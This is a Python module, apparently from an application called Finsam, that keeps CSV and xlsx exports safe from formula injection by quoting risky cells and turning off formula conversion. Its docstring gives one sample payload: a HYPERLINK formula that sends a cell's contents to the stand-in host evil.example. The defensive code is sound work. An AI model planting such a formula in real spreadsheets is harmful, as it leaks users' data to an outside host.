"""Formula-injection-safe cells for every CSV and xlsx file Finsam writes (OWASP "CSV injection").

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and
some also after a tab or a carriage return). A name such as
``=HYPERLINK("http://evil.example/?x="&A1,"klick")`` must therefore never reach a file as a live
formula. One place decides it for every writer:

* **CSV**: a text cell that starts with one of those characters gets a single quote ``'`` in
  front (:func:`csv_cell`, :func:`writer`, :class:`DictWriter`). A text that is a plain number
  (``-5``, ``-1 234,5``) is left alone – it cannot evaluate, and numbers stay numbers. Numbers
  (``int``, ``float``, ``Decimal``) are never touched.
* **xlsx**: text is written as a string cell, never as a formula or a link (:func:`workbook`
  sets ``strings_to_formulas`` and ``strings_to_urls`` off; :func:`write_cell` writes numbers as
  numbers and everything else with ``write_string``). No quote is added: a string cell cannot
  evaluate.

Files Finsam reads back (interchange, budget lines, indicator definitions, payback parameters)
undo the CSV quote with :func:`csv_unquote`, so an export imports again unchanged. The pair is
exact: ``csv_unquote(csv_cell(text)) == text`` for every text (property-tested), and a text that
was not quoted is read as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any, Literal

FORMULA_START = frozenset("=+-@\t\r")
"""First characters a spreadsheet may treat as the start of a formula."""

QUOTE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d \u00a0\u202f]*)?(?:[.,]\d+)?(?:[eE][+-]?\d+)?\s?%?")
_HAS_DIGIT = re.compile(r"\d")

XLSX_OPTIONS: dict[str, bool] = {"strings_to_formulas": False, "strings_to_urls": False}
"""XlsxWriter workbook options every Finsam workbook uses (merged into the caller's own)."""


def is_plain_number(text: str) -> bool:
    """``-5``, ``+3``, ``-1 234,5``, ``1e-3``, ``-12 %``: a number written as text."""
    return bool(_HAS_DIGIT.search(text)) and _PLAIN_NUMBER.fullmatch(text) is not None


def needs_quote(text: str) -> bool:
    """True when ``text`` would (after any quotes already in front) start a formula, or when it
    starts with a quote that :func:`csv_unquote` would otherwise remove. A single character
    (``-`` for "none") and a plain number cannot evaluate and are left alone."""
    rest = text.lstrip(QUOTE)
    return len(text) > 1 and bool(rest) and rest[0] in FORMULA_START and not is_plain_number(text)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: text that could start a formula gets ``'`` in front; any other
    value (numbers, dates, ``None``) is returned as it is."""
    if isinstance(value, str) and value and needs_quote(value):
        return QUOTE + value
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in row]


def csv_unquote(text: str) -> str:
    """Undo :func:`csv_cell` on a text read from a CSV file Finsam (or anyone following the same
    rule) wrote: a ``'`` in front of a text that would need it is removed."""
    if text[:1] == QUOTE and needs_quote(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    """``csv.writer`` with every row passed through :func:`csv_row`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(csv_row(row))

    @property
    def dialect(self):
        return self._writer.dialect


def writer(out, **kwargs) -> _SafeWriter:
    """Like ``csv.writer``, but formula-safe."""
    return _SafeWriter(out, **kwargs)


class DictWriter(csv.DictWriter):
    """Like ``csv.DictWriter``, but formula-safe (the header too)."""

    def __init__(
        self,
        out,
        fieldnames: Sequence[str],
        restval: Any = "",
        extrasaction: Literal["raise", "ignore"] = "raise",
        dialect: str = "excel",
        **kwargs: Any,
    ):
        super().__init__(out, fieldnames, restval, extrasaction, dialect, **kwargs)
        self.writer = _SafeWriter(out, dialect=dialect, **kwargs)  # type: ignore[assignment]


def workbook(target, options: Mapping[str, Any] | None = None):
    """An ``xlsxwriter.Workbook`` on ``target`` whose text cells can never become formulas or
    links (``options`` are the caller's other workbook options)."""
    import xlsxwriter

    return xlsxwriter.Workbook(target, {**(options or {}), **XLSX_OPTIONS})


def write_cell(sheet, row: int, col: int, value: Any, fmt=None, *, number_format=None) -> None:
    """One xlsx cell: ``None`` blank, numbers as numbers (``number_format`` if given), anything
    else as a string cell (never a formula)."""
    if value is None or value == "":
        sheet.write_blank(row, col, None, fmt)
    elif isinstance(value, bool):
        sheet.write_string(row, col, str(value), fmt)
    elif isinstance(value, int | float):
        sheet.write_number(row, col, value, number_format or fmt)
    elif isinstance(value, Decimal):
        sheet.write_number(row, col, float(value), number_format or fmt)
    else:
        sheet.write_string(row, col, str(value), fmt)


def write_row(sheet, row: int, col: int, values: Iterable[Any], fmt=None) -> None:
    for c, value in enumerate(values, start=col):
        write_cell(sheet, row, c, value, fmt)
